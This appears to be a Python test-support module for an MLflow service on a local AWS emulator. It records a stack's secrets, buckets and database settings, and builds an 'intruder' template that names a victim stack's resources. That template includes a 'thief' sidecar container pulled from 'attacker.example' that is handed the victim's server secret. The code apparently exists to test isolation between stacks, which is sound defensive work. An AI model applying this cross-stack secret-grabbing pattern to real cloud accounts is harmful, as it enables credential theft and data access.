"""Two stacks beside each other: all that the one has, and templates of the other that name it."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from demo import evidence
from local.aws import LocalAws
from tests.support.local_aws.stacks import Stack
from tests.support.mlflow.mlflow_stacks import Network

EXAMPLES = Path(__file__).parents[3] / "examples"
OF_CLUSTER = ("DBClusterArn", "Endpoint", "EngineVersion", "VpcSecurityGroups", "TagList", "Status")


def belongings(aws: LocalAws, stack: Stack) -> dict[str, Any]:
    """Return all objects of a stack with their tags, and what is in those that others could use."""
    client = aws.session().client
    found: dict[str, Any] = {"tags": evidence.tags_of_owned(client, stack.id)}
    for arn in found["tags"]:
        kind = arn.split(":")[2]
        if kind == "secretsmanager":
            answer = client("secretsmanager").get_secret_value(SecretId=arn)
            found[arn] = (answer["SecretString"], answer["VersionId"])
        elif kind == "s3":
            bucket = arn.rpartition(":")[2]
            listed = client("s3").list_object_versions(Bucket=bucket).get("Versions", [])
            objects = sorted((one["Key"], one["ETag"]) for one in listed)
            found[arn] = (objects, client("s3").get_bucket_policy(Bucket=bucket)["Policy"])
        elif ":cluster:" in arn and kind == "rds":
            answer = client("rds").describe_db_clusters(DBClusterIdentifier=arn.split(":")[-1])
            found[arn] = {key: answer["DBClusters"][0].get(key) for key in OF_CLUSTER}
        elif ":security-group/" in arn:
            group = client("ec2").describe_security_groups(GroupIds=[arn.rpartition("/")[2]])
            found[arn] = group["SecurityGroups"]
    return found


def named(aws: LocalAws, stack: Stack, *parts: str) -> str:
    """Return the ARN of the one object of a stack in which all these parts stand."""
    arns = evidence.owned(aws.session().client, stack.id)
    [found] = [arn for arn in arns if all(part in arn for part in parts)]
    return found


def client_group(aws: LocalAws, stack: Stack) -> str:
    """Return the id of the security group that the stack's database admits."""
    guid = stack.id.rpartition("/")[2]
    [group] = [
        group["GroupId"]
        for group in aws.session().client("ec2").describe_security_groups()["SecurityGroups"]
        if "database-client" in group["GroupName"]
        if any(tag["Value"].startswith(guid) for tag in group.get("Tags", []))
    ]
    return str(group)


def intruder(aws: LocalAws, network: Network, victim: Stack, provider: str) -> dict[str, Any]:
    """Return a template whose service names all that another stack has."""
    client = aws.session().client
    cluster = named(aws, victim, ":rds:", ":cluster:")
    found = client("rds").describe_db_clusters(DBClusterIdentifier=cluster.split(":")[-1])
    server = named(aws, victim, ":secret:", "-server-")
    properties = {
        "ServiceToken": {"Fn::ImportValue": f"{provider}-MLflowService"},
        "VpcId": network.vpc_id,
        "SubnetIds": network.subnet_ids,
        "LoadBalancerSubnetIds": network.subnet_ids,
        "LoadBalancerIngressCidrBlocks": ["10.0.0.0/8"],
        "DatabaseEndpoint": found["DBClusters"][0]["Endpoint"],
        "DatabaseClusterArn": cluster,
        "DatabaseSecretArn": named(aws, victim, ":secret:", "-mlflow-app-2-"),
        "DatabaseMigrationSecretArn": named(aws, victim, ":secret:", "-mlflow-migrate-"),
        "DatabaseClientSecurityGroupId": client_group(aws, victim),
        "ArtifactBucketId": named(aws, victim, ":s3:::").rpartition(":")[2],
        "SidecarContainerDefinitions": [
            {
                "Name": "thief",
                "Image": "attacker.example/x:1",
                "Secrets": [{"Name": "KEYS", "ValueFrom": server}],
            }
        ],
    }
    return {"Resources": {"Service": {"Type": "Custom::MLflowService", "Properties": properties}}}


def with_exports(template: str) -> str:
    """Return the template of the parts with what the example's service imports."""
    _, _, outputs = (EXAMPLES / "shared-database.yaml").read_text().partition("\nOutputs:\n")
    return f"{template.rstrip()}\n{outputs}"
